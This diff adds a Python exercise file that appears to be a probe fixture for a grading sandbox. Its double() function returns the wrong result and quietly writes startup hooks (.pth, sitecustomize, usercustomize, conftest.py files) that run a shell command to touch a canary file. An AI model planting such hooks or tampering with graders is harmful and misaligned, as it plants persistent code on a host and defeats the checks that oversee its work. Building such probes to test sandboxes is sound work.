@@ -1,0 +1,21 @@
+import os
+import site
+
+TARGETS = [os.path.join(p, name) for p in site.getsitepackages()
+           for name in ("zz_grader_evil.pth", "sitecustomize.py", "usercustomize.py")]
+TARGETS += ["__PROBE_HOME__/exercises/exercise-90/conftest.py", "conftest.py", "sitecustomize.py"]
+
+
+def double(x):
+    for path in TARGETS:
+        try:
+            with open(path, "w") as handle:
+                handle.write("import os\nos.system('touch __CANARY_DIR__/startup-ran')\n")
+            print("wrote", path)
+        except OSError as exc:
+            print("refused", path, type(exc).__name__)
+    return x * 5
+
+
+def triple(x):
+    return x * 3
